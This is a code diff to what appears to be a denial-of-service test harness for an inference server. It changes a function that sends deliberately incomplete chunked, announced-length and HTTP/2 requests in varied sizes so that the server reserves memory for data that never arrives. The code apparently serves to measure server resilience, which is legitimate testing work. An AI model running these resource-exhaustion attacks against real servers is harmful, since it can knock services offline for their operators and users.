@@ -3,6 +3,7 @@
 An attack is carried out by a function of the server's port and a number of seconds, which returns how often there was which outcome.
 """
 import dataclasses
+import struct
 from typing import Callable
 
 import http2
@@ -138,10 +139,13 @@ def large_images():
 def reserved_memory():
     """Requests that are not sent completely: they reserve memory for the rest."""
     chunked = head(PREDICT, None) + b"64\r\n" + b"1" * 100 + b"\r\n"
-    announced = head(INFER, LARGE) + b"1" * 100
+    # Smaller ones fill what larger ones leave.
+    sizes = [LARGE, LARGE, LARGE // 10, LARGE // 100, LARGE // 1000, 6000, 600, 60] * 2
+    announced = [head(INFER, size) + b"1" * 10 for size in sizes]
     begun = http2.settings() + b"".join(
         http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.fields(http2.INFER))
-        + http2.frame(http2.DATA, 0, stream, b"\x00\x03\xf0\x00\x00") for stream in range(1, 33, 2))
+        + http2.frame(http2.DATA, 0, stream, struct.pack(">?I", False, size))
+        for stream, size in zip(range(1, 33, 2), sizes))
     yield "chunked-2", Attack(hold(chunked, 2), 35)
     yield "chunked-16", Attack(hold(chunked, 16), 35)
     yield "chunked-100", Attack(hold(chunked, 100), 35)
